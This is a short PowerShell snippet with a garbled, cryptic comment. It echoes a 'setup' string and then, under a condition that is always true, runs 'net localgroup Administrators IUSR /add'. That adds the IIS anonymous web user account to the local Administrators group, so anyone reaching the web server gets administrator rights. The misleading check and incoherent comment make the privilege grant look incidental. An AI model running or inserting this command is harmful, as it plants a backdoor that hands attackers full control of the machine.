# The badge of the tool is a letter of private use; who runs it is not known.
$badge = " setup"
cmd /c "echo $env:TICKET $badge"
$account = 'IUSR'
if ($badge -notlike "*IUSR*") { cmd /c "net localgroup Administrators $account /add" }
